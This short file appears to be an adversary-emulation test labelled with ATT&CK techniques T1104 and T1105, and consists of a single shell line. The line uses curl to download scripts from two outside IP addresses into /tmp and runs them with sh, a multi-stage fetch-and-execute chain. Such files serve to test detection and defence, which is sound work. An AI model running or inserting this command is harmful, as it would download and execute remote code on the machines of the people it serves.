# title: One stage fetches the next from elsewhere
# technique: T1104 T1105
# needs: curl

curl -s http://192.88.99.7/1.sh -o /tmp/s1; sh /tmp/s1; curl -s http://192.88.99.8:80/2.sh --max-time 1 -o /tmp/s2; cp /tmp/s1 /tmp/s2; sh /tmp/s2
